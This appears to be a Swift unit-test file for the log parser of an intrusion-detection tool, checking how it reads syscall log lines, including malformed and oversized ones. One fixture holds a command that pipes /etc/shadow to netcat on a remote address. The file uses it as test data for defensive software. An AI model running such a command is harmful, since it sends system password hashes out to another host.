// SPDX-License-Identifier: Apache-2.0
// M-ICE: Modular Intrusion Detection and Countermeasure Environment

import MICELogFormat
import MICERecords
import Testing

@Suite("SCSLogParser: scslog2syslog lines")
struct SCSLogParserTests {
    static func parse(_ line: String) -> ParsedLine<SCSLogFormat>? {
        SCSLogParser.parse(Array(line.utf8))
    }

    @Test("a complete line: every field")
    func complete() throws {
        let line =
            "Sep  5 18:55:00 host scslog2syslog: Syscall: execve | Program: /bin/sh | PID: 4242 | UID: 500 | EUID: 0 "
            + "| Call: execve(\"/usr/bin/id\", [\"id\"]) | Comment: setuid shell"
        let parsed = try #require(Self.parse(line))
        let record = parsed.record
        #expect(record[text: \.syscall] == "execve")
        #expect(record[text: \.program] == "/bin/sh")
        #expect(record.pid == 4242 && record.uid == 500 && record.euid == 0)
        #expect(record[text: \.call] == "execve(\"/usr/bin/id\", [\"id\"])")
        #expect(record[text: \.comment] == "setuid shell")
        #expect(parsed.fieldsFound == 7 && parsed.problems.isEmpty)
    }

    @Test("EUID before UID, a pipe inside Call, fields in any order")
    func orderAndPipes() throws {
        let line =
            "scslog2syslog: EUID: 0 | UID: 1000 | Call: sh -c \"cat /etc/shadow | nc 192.0.2.9 9\" | Syscall: execve "
            + "| PID: 17 | Program: sh | Comment: x"
        let record = try #require(Self.parse(line)).record
        #expect(record.uid == 1000 && record.euid == 0)
        #expect(record[text: \.call] == "sh -c \"cat /etc/shadow | nc 192.0.2.9 9\"")
        #expect(record[text: \.syscall] == "execve" && record.pid == 17 && record[text: \.program] == "sh")
    }

    @Test("hostile lines: missing fields, empty values, bad and overflowing numbers, over-long values")
    func hostile() throws {
        let long = String(repeating: "p", count: 600)
        let line = "scslog2syslog: Syscall:  | Program: \(long) | PID: 4x2 | UID: 4294967296 | Call: \(long)\(long)"
        let parsed = try #require(Self.parse(line))
        let record = parsed.record
        #expect(record.syscall == SCSLogParser.noValue)
        #expect(record.program.count == 254 && record.call.count == 1023)
        #expect(record.pid == 0 && record.uid == 0 && record.euid == 0)
        #expect(record.comment.isEmpty)
        let problems = parsed.problems.joined(separator: "\n")
        for expected in ["PID: \"4x2\"", "UID: \"4294967296\"", "EUID: missing", "Comment: missing"] {
            #expect(problems.contains(expected), "\(expected) not in \(problems)")
        }
        #expect(try #require(Self.parse("scslog2syslog: PID: -1")).record.pid == -1)
    }

    @Test(
        "no marker, or no field: nil",
        arguments: [
            "Syscall: execve | PID: 1", "scslog2syslog: nothing here", "Jun 14 15:16:01 combo sshd[1]: UID: 5",
        ])
    func notSCSLog(line: String) {
        #expect(Self.parse(line) == nil)
    }
}
